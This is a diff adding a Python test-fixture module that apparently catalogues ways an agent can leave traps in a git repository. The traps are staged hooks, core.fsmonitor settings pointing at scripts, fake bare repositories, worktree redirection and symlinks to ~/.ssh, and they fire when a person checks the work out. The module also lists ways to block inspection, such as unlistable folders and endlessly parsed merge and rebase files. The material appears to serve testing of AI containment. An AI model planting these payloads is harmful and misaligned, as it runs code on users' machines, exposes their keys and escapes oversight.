@@ -1,0 +1,120 @@
+"""Deeds of which nothing can be seen until the person checks out what an agent left in the index, and those by which
+an agent keeps what it left from being inspected.
+"""
+
+from escape.left_behind import Deed
+
+_STAGE = 'stage() { git update-index --add --cacheinfo "$1,$(git hash-object -w --stdin),$2"; }; '
+_EVIL_SETTINGS = "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = %s\\n' $PWD/x.sh"
+_HOOK = "printf '#!/bin/sh\\ntouch %s\\n' $MARK"
+_STEPS = (
+    "for i in 1 2 3; do echo $i > n$i; git add n$i; git commit -qm n$i; done;"
+    ' GIT_SEQUENCE_EDITOR="sed -i 1s/^pick/edit/" git rebase -q -i HEAD~2; evil x.sh;'
+    " echo exec $PWD/x.sh > .git/rebase-merge/git-rebase-todo; "
+)
+_OF_A_CHECKOUT = ("checkout", "commit", "status", "checkout")
+
+THROUGH_THE_INDEX = {
+    "a hook, in a git folder of another name": Deed(
+        f"{_STAGE}{_HOOK} | stage 100755 gitdir/hooks/post-checkout", layout="git folder in its worktree",
+        commands=_OF_A_CHECKOUT,
+    ),
+    "settings, in a bare repository of the host's": Deed(
+        f"{_STAGE}evil x.sh; {_EVIL_SETTINGS} | stage 100644 mirror.git/config", layout="bare one inside",
+        where=(".", "mirror.git"), commands=_OF_A_CHECKOUT,
+    ),
+    "a bare repository": Deed(
+        f"{_STAGE}evil x.sh; {_EVIL_SETTINGS} | stage 100644 docs/config; echo ref: refs/heads/main | stage 100644"
+        " docs/HEAD; echo | stage 100644 docs/objects/x; echo | stage 100644 docs/refs/x",
+        where=(".", "docs"), commands=_OF_A_CHECKOUT,
+    ),
+    "a bare repository of which a part is there": Deed(
+        f"{_STAGE}evil x.sh; {_EVIL_SETTINGS} | stage 100644 docs/config; echo ref: refs/heads/main | stage 100644"
+        " docs/HEAD; mkdir -p docs/objects docs/refs",
+        where=(".", "docs"), commands=_OF_A_CHECKOUT,
+    ),
+    "a bare repository, in a split index": Deed(
+        f"{_STAGE}evil x.sh; {_EVIL_SETTINGS} | stage 100644 docs/config; echo | stage 100644 docs/objects/x;"
+        " echo | stage 100644 docs/refs/x; git update-index --split-index;"
+        " echo ref: refs/heads/main | stage 100644 docs/HEAD",
+        where=(".", "docs"), commands=_OF_A_CHECKOUT,
+    ),
+    "a hook, where the settings look for hooks": Deed(
+        f"{_STAGE}{_HOOK} | stage 100755 .githooks/post-checkout", layout="hooks in the worktree",
+        commands=_OF_A_CHECKOUT,
+    ),
+}  # fmt: skip
+WORKTREES = {
+    "a nested repository's, in .git": Deed(
+        "git init -q n; cd n; evil hooks/post-checkout; git add hooks; git commit -qm x; rm -r hooks;"
+        " git config core.worktree ../../.git",
+        where=("n", "."), commands=_OF_A_CHECKOUT,
+    ),
+    "a nested repository's, in a bare one": Deed(
+        "git init -q n; cd n; evil hooks/post-checkout; git add hooks; git commit -qm x; rm -r hooks;"
+        " echo gitdir: ../n/.git > ../mirror.git/.git; git config core.worktree ../../mirror.git",
+        layout="bare one inside", where=("n",), commands=_OF_A_CHECKOUT, wrong="test -e mirror.git/hooks/post-checkout",
+    ),
+    "a new worktree's, in .git": Deed(
+        "git worktree add -q w -b w; cd w; evil hooks/post-checkout; git add hooks; rm -r hooks;"
+        " git config extensions.worktreeConfig true; printf '[core]\\n\\tworktree = ../..\\n' >"
+        " ../.git/worktrees/w/config.worktree",
+        where=("w", "."), commands=_OF_A_CHECKOUT,
+    ),
+    "a nested repository's, behind a link to come": Deed(
+        f"{_STAGE}git init -q n; cd n; echo mine > config; git add config; git commit -qm x; rm config;"
+        ' git config core.worktree ../../link; cd ..; printf %s "$H/.ssh" | stage 120000 link',
+        where=(".", "n"), commands=("checkout",),
+    ),
+}  # fmt: skip
+LINKS_TO_COME = {
+    "a pointer": Deed(
+        f"{_STAGE}evil x.sh; git init -q t; mkdir -p .git/lfs; mv t/.git .git/lfs/.git; rmdir t;"
+        " git --git-dir=.git/lfs/.git config core.fsmonitor $PWD/x.sh; git --git-dir=.git/lfs/.git config core.bare false;"
+        " mkdir x; echo gitdir: ../link/.git > x/.git; printf .git/lfs | stage 120000 link",
+        where=(".", "x"), commands=("checkout", "status"),
+    ),
+    "a record of conflicts": Deed(
+        f"{_STAGE}k={'a' * 40}; mkdir -p .git/rr-cache/$k; echo > .git/rr-cache/$k/preimage;"
+        " printf '%s\\tlink/config\\0' $k > .git/MERGE_RR; printf %s \"$H/.ssh\" | stage 120000 link",
+        commands=("checkout", "commit"), wrong="grep -q Host .git/rr-cache/*/postimage",
+    ),
+}  # fmt: skip
+UNINSPECTED = {
+    "a git folder that cannot be listed": Deed(f"{_STEPS}chmod 0333 .git", commands=("rebase",)),
+    "a project that cannot be listed": Deed(
+        "git init -q n; evil x.sh; git -C n config core.fsmonitor $PWD/x.sh; chmod 0333 .", where=("n",),
+        commands=("status",),
+    ),
+    "a project in which nothing can be renamed": Deed(
+        "git init -q n; evil x.sh; git -C n config core.fsmonitor $PWD/x.sh; mkdir -p n/.git/lfs/g/objects"
+        " n/.git/lfs/g/refs; cp n/.git/HEAD n/.git/config n/.git/lfs/g; mkdir sub; echo gitdir: ../n/.git/lfs/g > sub/.git;"
+        " chmod 0555 sub",
+        where=("sub",), commands=("status",),
+    ),
+    "options for a strategy that are judged for ever": Deed(
+        'mkdir .git/rebase-merge; for i in $(seq 60); do printf "ours\'"; done > .git/rebase-merge/strategy_opts;'
+        " echo x >> .git/rebase-merge/strategy_opts; git init -q n; evil x.sh; git -C n config core.fsmonitor $PWD/x.sh",
+        where=("n",), commands=("status",),
+    ),
+    "heads that are judged for ever": Deed(
+        "head -c 6000 /dev/zero | tr '\\0' a > .git/MERGE_HEAD; echo x >> .git/MERGE_HEAD; git init -q n; evil x.sh;"
+        " git -C n config core.fsmonitor $PWD/x.sh",
+        where=("n",), commands=("status",),
+    ),
+    "packs that are deleted elsewhere": Deed(
+        "git repack -adq; echo 1 > n1; git add n1; git commit -qm n1; git repack -dq; git multi-pack-index write;"
+        ' f=.git/objects/pack/multi-pack-index; chmod u+w $f; sed -i "s#pack-#../../x/#" $f',
+        commands=("status",), wrong="grep -q ../../x/ .git/objects/pack/multi-pack-index",
+    ),
+}  # fmt: skip
+CHECKOUTS = {
+    f"{what}: {name}": deed
+    for what, deeds in {
+        "through the index": THROUGH_THE_INDEX,
+        "a worktree": WORKTREES,
+        "behind a link to come": LINKS_TO_COME,
+        "uninspected": UNINSPECTED,
+    }.items()
+    for name, deed in deeds.items()
+}
